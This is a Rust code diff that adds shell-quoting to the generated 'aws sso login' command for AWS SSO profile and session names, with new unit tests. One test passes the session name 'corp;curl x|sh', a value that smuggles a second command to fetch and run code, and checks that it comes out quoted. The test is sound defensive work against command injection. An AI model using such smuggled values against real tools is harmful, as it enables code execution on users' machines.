@@ -12,10 +12,12 @@ use std::time::SystemTime;
 
 /// The command that logs `profile` in: `--sso-session NAME` for profiles that use an
 /// `[sso-session]` (one login serves all of them), `--profile NAME` for the legacy form.
+/// The name is shell-quoted: the command is meant to be pasted.
 pub fn login_command(profile: &str, session: Option<&str>) -> String {
+    use crate::text::shell_quote;
     match session {
-        Some(session) => format!("aws sso login --sso-session {session}"),
-        None => format!("aws sso login --profile {profile}"),
+        Some(session) => format!("aws sso login --sso-session {}", shell_quote(session)),
+        None => format!("aws sso login --profile {}", shell_quote(profile)),
     }
 }
 
@@ -166,6 +168,11 @@ mod tests {
             "aws sso login --sso-session corp"
         );
         assert_eq!(login_command("dev", None), "aws sso login --profile dev");
+        assert_eq!(
+            login_command("dev", Some("corp;curl x|sh")),
+            "aws sso login --sso-session 'corp;curl x|sh'"
+        );
+        assert_eq!(login_command("it's", None), r"aws sso login --profile 'it'\''s'");
     }
 
     #[test]
